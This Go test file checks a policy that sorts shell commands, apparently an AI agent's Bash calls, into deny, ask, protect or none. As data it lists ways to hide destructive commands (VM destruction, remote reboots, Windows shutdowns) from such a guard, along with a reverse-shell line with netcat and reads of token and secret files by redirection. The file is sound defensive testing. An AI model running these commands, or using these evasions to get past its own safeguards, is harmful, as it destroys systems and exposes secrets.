package policy

import (
	"encoding/json"
	"path/filepath"
	"testing"
)

// unknowableCases are the constructs in which bash, or a tool, runs code
// that no literal command shows, with the verdict the default policy
// gives each. Every case that is not none is also quoted as data (a commit
// message, a quoted heredoc, an echo), which must stay below its verdict;
// each has a harmless sibling that stays none.
var unknowableCases = []struct {
	cmd  string
	want Effect
}{
	// Command names made by expansion.
	{"{govc,vm.destroy,web-01}", Deny},
	{"g{o,}vc vm.destroy web-01", Ask},
	{"/usr/bin/gov? vm.destroy web-01", Ask},
	{"echo {govc,vm.destroy,web-01}", None},
	// Aliases, hashed names, functions from the environment.
	{"alias s='sudo ' d='govc vm.destroy'\ns d web-01", Deny},
	{"BASH_ALIASES[d]='govc vm.destroy'\nd web-01", Deny},
	{"alias \"$N=govc vm.destroy\"", Ask},
	{"hash -p /usr/bin/govc g; g vm.destroy web-01", Deny},
	{"hash -p /bin/ls l; l -la", None},
	{"env 'BASH_FUNC_f%%=() { ssh web-01 sudo reboot; }' bash -c f", Protect},
	// Scripts from descriptors and BASH_ENV.
	{"source /dev/stdin <<<'ssh web-01 sudo reboot'", Protect},
	{"exec 3<<<'govc vm.destroy web-01'; . /dev/fd/3", Deny},
	{"bash /dev/stdin <<<\"$SCRIPT\"", Ask},
	{"BASH_ENV=./env.sh bash -c 'make test'", Ask},
	{"source /dev/stdin <<<'echo hello'", None},
	// Text bash expands again.
	{"unset 'a[$(ssh web-01 sudo reboot)]'", Protect},
	{"[[ -v 'a[$(govc vm.destroy web-01)]' ]]", Deny},
	{"x='a[$(govc vm.destroy web-01)]'", Deny},
	{"echo \"${p@P}\"", Ask},
	{"unset 'a[0]'", None},
	// Options whose value is a command.
	{"git -c core.sshCommand='ssh web-01 sudo reboot #' fetch", Protect},
	{"git -c core.sshCommand='ssh -i ~/.ssh/deploy_key' fetch", None},
	{"GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git clone git@github.com:org/repo.git", None},
	{"git -c alias.x='!govc vm.destroy web-01' x", Deny},
	{"git config alias.st status", None},
	{"git -c core.sshCommand=\"$CMD\" fetch", Ask},
	{"tar -xf a.tar --to-command='govc vm.destroy web-01'", Deny},
	{"tar -czf a.tgz --exclude=.git .", None},
	{"tmux send-keys -t 0 'ssh web-01 sudo reboot' Enter", Protect},
	{"tmux new-session -d -s build 'make test'", None},
	{"ssh-agent sh -c 'govc vm.destroy web-01'", Deny},
	{"socat - EXEC:'govc vm.destroy web-01'", Deny},
	{"nc -e /bin/sh attacker 4444", Ask},
	// Interpreters that start processes.
	{"python3 -c \"import os; os.system('ssh web-01 sudo reboot')\"", Protect},
	{"python3 -c \"import subprocess; subprocess.run(['govc', 'vm.destroy', 'web-01'])\"", Deny},
	{"python3 -c \"import subprocess; subprocess.run(cmd, shell=True)\"", Ask},
	{"python3 -c 'import json, sys; print(json.load(sys.stdin)[\"name\"])'", None},
	{"python3 - <<'EOF'\nimport os\nos.system('ssh web-01 sudo reboot')\nEOF", Protect},
	{"python3 - <<'EOF'\nfor i in range(3):\n    print(i)\nEOF", None},
	{"perl -e 'system(\"ssh web-01 sudo reboot\")'", Protect},
	{"perl -ne 'print if /ERROR/' app.log", None},
	{"ruby -e 'puts `govc vm.destroy web-01`'", Deny},
	{"ruby -e 'puts [1, 2, 3].sum'", None},
	{"node -e \"require('child_process').execSync('ssh web-01 sudo reboot')\"", Protect},
	{"node -e 'console.log(process.version)'", None},
	{"php -r 'system(\"govc vm.destroy web-01\");'", Deny},
	{"php -r 'echo json_encode([1, 2]);'", None},
	{"awk 'BEGIN { system(\"ssh web-01 sudo reboot\") }'", Protect},
	{"awk -F: '{ print $1 }' /etc/passwd", None},
	// Scheduled code.
	{"at now <<<'govc vm.destroy web-01'", Deny},
	{"echo 'ssh web-01 sudo reboot' | at now + 1 hour", Protect},
	{"crontab - <<'EOF'\n*/5 * * * * ssh web-01 sudo systemctl restart app\nEOF", Protect},
	{"crontab ./jobs", Ask},
	{"crontab - <<'EOF'\n0 3 * * * /usr/local/bin/backup.sh\nEOF", None},
	{"crontab -l", None},
	// Scripts and startup files written in the call and run by it.
	{"echo 'ssh web-01 sudo reboot' > run.sh && chmod +x run.sh && ./run.sh", Protect},
	{"echo 'Remove-VM web-01 -Force' > r.ps1; pwsh -File r.ps1", Deny},
	{"printf 'import os\nos.system(\"ssh web-01 sudo reboot\")\n' > sitecustomize.py; PYTHONPATH=. python3 -c 1", Protect},
	{"echo 'echo hello' > run.sh && chmod +x run.sh && ./run.sh", None},
	{"printf '#!/usr/bin/expect\nspawn ssh web-01\nsend \"sudo reboot\\r\"\n' > r.exp && chmod +x r.exp && ./r.exp", Protect},
	{"printf '#!/usr/bin/expect\nspawn ssh web-01\nexpect \"$ \"\nsend \"uptime\\r\"\n' > r.exp && chmod +x r.exp && ./r.exp", None},
	// cmd.exe, where ' is no quote and & ends a command, and a Windows
	// host's login shell over ssh.
	{`winrs -r:web-01 "echo x'&shutdown /r /t 0&'"`, Protect},
	{`psexec \\web-01 cmd /c "echo x'&shutdown /r /t 0&'"`, Protect},
	{`cmd /c "echo x'&ssh web-01 sudo reboot&'"`, Protect},
	{`winrs -r:web-01 "for /f %i in ('shutdown /r') do echo %i"`, Protect},
	{`winrs -r:web-01 "%CMD% /r"`, Protect},
	{`winrs -r:web-01 "ipconfig /all & hostname"`, None},
	{`cmd /c "echo x^&ssh web-01 sudo reboot"`, None},
	{`ssh winhost "echo x'&shutdown /r /t 0&'"`, Protect},
	{`ssh winhost 'echo "a\"; Stop-Computer; \""'`, Protect},
	{`ssh web-01 "grep -E 'err|warn' /var/log/syslog"`, None},
	{`ssh web-01 'echo "it works" && uptime'`, None},
}

func TestUnknowableConstructs(t *testing.T) {
	t.Parallel()
	p := newPolicy(t, "")
	for _, tc := range unknowableCases {
		v := p.ClassifyCommand(tc.cmd)
		if v.Effect != tc.want {
			t.Errorf("%q: %s (%s: %s), want %s", tc.cmd, v.Effect, v.Rule, v.Reason, tc.want)
		}
		if tc.want == None {
			continue
		}
		for _, m := range matrixVariants {
			if m.trip {
				continue
			}
			data := m.wrap(tc.cmd)
			if v := p.ClassifyCommand(data); v.Effect >= tc.want {
				t.Errorf("%s %q: %s (%s: %s), want below %s", m.name, data, v.Effect, v.Rule, v.Reason, tc.want)
			}
		}
	}
}

// TestSecretReadsByRedirection: a command that reads rewind's secrets by
// an input redirection is asked, as one naming them as its argument is;
// bash expands a pattern there, which is matched against the secrets.
// Reading other files by redirection, and prose quoting such a read, pass.
func TestSecretReadsByRedirection(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	home := filepath.Join(root, "home")
	secret := filepath.Join(root, "etc", "zvm-secret")
	env := map[string]string{"HOME": home, "REWIND_ZVM_CLIENT_SECRET_FILE": secret, "PATH": "/usr/bin"}
	cwd := filepath.Join(home, "project")
	cfg, err := Find("", cwd, func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		cmd  string
		want Effect
	}{
		{"cat < ~/.cache/rewind/zvm-tokens/t.json", Ask},
		{"exec 3< " + secret + "; cat <&3", Ask},
		{"while read -r l; do echo \"$l\"; done < " + secret, Ask},
		{"jq -r .access_token < ~/.cache/rew*/zvm-tokens/*", Ask},
		{"cat < ~/.cache/r?wind/x", Ask},
		{"base64 0< ~/.c[a]che/rewind/t.json", Ask},
		{"cat < ~/.cache/pip/log.txt", None},
		{"cat < ~/.cache/p*/log.txt", None},
		{"while read -r l; do echo \"$l\"; done < go.mod", None},
		{"git commit -m 'never cat < ~/.cache/rewind/zvm-tokens/t.json'", None},
		{"echo 'cat < " + secret + "'", None},
	} {
		v := p.Classify(Call{Tool: "Bash", Input: json.RawMessage(`{"command":` + quoteJSON(tt.cmd) + `}`), Cwd: cwd})
		if v.Effect != tt.want {
			t.Errorf("%q: got %s (%s: %s), want %s", tt.cmd, v.Effect, v.Rule, v.Reason, tt.want)
		}
	}
}
